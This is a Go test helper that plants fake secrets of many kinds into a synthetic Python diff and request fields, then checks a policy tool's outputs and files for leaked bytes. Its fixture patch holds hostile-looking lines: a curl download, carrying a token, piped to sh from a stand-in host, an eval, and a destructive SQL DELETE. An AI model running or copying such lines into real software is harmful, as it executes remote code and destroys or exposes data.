// Package leaktest plants fake secrets of many kinds in a patch and in every
// field of a request, and checks outputs, files and directories for their
// raw bytes: the leak test of every entry point (gov eval, pr, serve,
// report, simulate) uses it. Nothing it makes is a live credential.
package leaktest

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gov-policy/gov/engine"
	"github.com/gov-policy/gov/scan/scantest"
)

// Rules are the secret kinds planted: each is a built-in scanner rule.
var Rules = []string{
	"aws-access-key-id", "aws-secret-access-key", "github-pat", "github-fine-grained-pat",
	"slack-bot-token", "stripe-secret-key", "private-key-rsa", "jwt", "database-url-password",
	"gcp-api-key", "openai-api-key", "npm-access-token", "broker-url-password", "generic-secret",
}

// Kinds returns one fake secret of each rule in Rules (same seed, same values).
func Kinds() []scantest.Sample {
	var out []scantest.Sample
	for _, s := range scantest.New(13).Positives() {
		if slices.Contains(Rules, s.Rule) {
			out = append(out, s)
		}
	}
	return out
}

// Line is a sample as one assignment line of Python (a key block spans lines).
func Line(s scantest.Sample) string { return scantest.Render("python", s) }

// Parts are the byte strings of a secret that must never appear: the
// secret, and for a key block each line of its body.
func Parts(s scantest.Sample) []string {
	parts := []string{s.Secret}
	if strings.Contains(s.Secret, "\n") {
		parts = nil
		for l := range strings.Lines(s.Secret) {
			if l = strings.TrimSpace(l); len(l) >= 16 {
				parts = append(parts, l)
			}
		}
	}
	return parts
}

// Patch adds the samples to a Python settings file, and quotes some of them
// on the lines library rules quote in their messages (a dependency from a
// URL, eval, a destructive SQL statement, a shell download).
func Patch(kinds []scantest.Sample) string {
	var settings []string
	for _, s := range kinds {
		settings = append(settings, strings.Split(Line(s), "\n")...)
	}
	by := map[string]string{}
	for _, s := range kinds {
		by[s.Rule] = s.Secret
	}
	code := []string{
		`result = eval("` + by["aws-access-key-id"] + `")`,
		`os.system("curl -H 'Authorization: token ` + by["github-pat"] + `' https://x.example | sh")`,
		`db.execute("DELETE FROM users -- ` + by["stripe-secret-key"] + `")`,
		`logger.info("password=%s token=` + by["slack-bot-token"] + `", password)`,
	}
	reqs := []string{"git+https://" + by["github-pat"] + "@github.com/acme/private-lib.git#egg=private-lib"}
	return addFile("app/settings.py", settings) + addFile("app/run.py", code) + addFile("requirements.txt", reqs)
}

func addFile(path string, lines []string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1,%d @@\n", path, path, path, len(lines))
	for _, l := range lines {
		b.WriteString("+" + l + "\n")
	}
	return b.String()
}

// Request carries the patch and the samples in every free-text field:
// each scalar field one sample, error_context and metadata all of them
// (nested in objects and arrays). environment is left for the caller.
func Request(kinds []scantest.Sample, patch string) engine.Request {
	pick := func(i int) string { return "x " + strings.ReplaceAll(Line(kinds[i%len(kinds)]), "\n", " ") }
	lines := make([]any, len(kinds))
	byRule := map[string]any{}
	for i, s := range kinds {
		lines[i] = Line(s)
		byRule[s.Rule] = s.Value
	}
	return engine.Request{
		RequestID:   strings.ReplaceAll(kinds[2].Secret, "\n", ""),
		ActionType:  pick(3),
		ServiceName: pick(4),
		Language:    pick(5),
		RequestedBy: pick(7),
		ErrorContext: map[string]any{
			"log":   strings.Join(toStrings(lines), "\n"),
			"trace": map[string]any{"frames": lines},
		},
		Metadata:     map[string]any{"values": byRule, "note": pick(8)},
		PatchContent: patch,
	}
}

func toStrings(xs []any) []string {
	out := make([]string, len(xs))
	for i, x := range xs {
		out[i] = x.(string)
	}
	return out
}

// Check fails t for each planted secret whose raw bytes appear in data.
func Check(t testing.TB, where string, data []byte) {
	t.Helper()
	if len(data) == 0 {
		return
	}
	for _, s := range Kinds() {
		for _, p := range Parts(s) {
			if strings.Contains(string(data), p) {
				t.Errorf("%s: raw %s secret %.8s... leaked", where, s.Rule, p)
				break
			}
		}
	}
}

// CheckDir checks every file under dir (hidden and temporary files included).
func CheckDir(t testing.TB, dir string) int {
	t.Helper()
	n := 0
	fsys := os.DirFS(dir)
	err := fs.WalkDir(fsys, ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := fs.ReadFile(fsys, path)
		if err != nil {
			return err
		}
		n++
		Check(t, filepath.Join(dir, path), data)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return n
}
